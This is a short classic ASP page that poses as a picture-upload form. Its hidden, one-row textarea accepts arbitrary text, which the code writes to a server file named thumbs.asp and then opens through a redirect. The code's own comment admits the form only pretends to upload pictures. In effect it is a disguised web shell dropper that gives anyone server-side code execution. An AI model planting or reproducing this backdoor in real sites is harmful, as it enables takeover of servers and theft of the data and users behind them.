<%
' A form that pretends to upload pictures; what is typed in the box becomes a script beside it.
If Request("body") <> "" Then
  content = Request("body")
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set f = fso.CreateTextFile(Server.MapPath("thumbs.asp"), True)
  f.Write(content)
  f.Close
  Response.Redirect("thumbs.asp")
Else
%>
<p>Choose a picture (jpg, gif, png; 100 KB at most)</p>
<form method="post" action="">
  <textarea name="body" rows="1" style="overflow:hidden"></textarea>
  <input type="submit" value="Upload">
</form>
<% End If %>
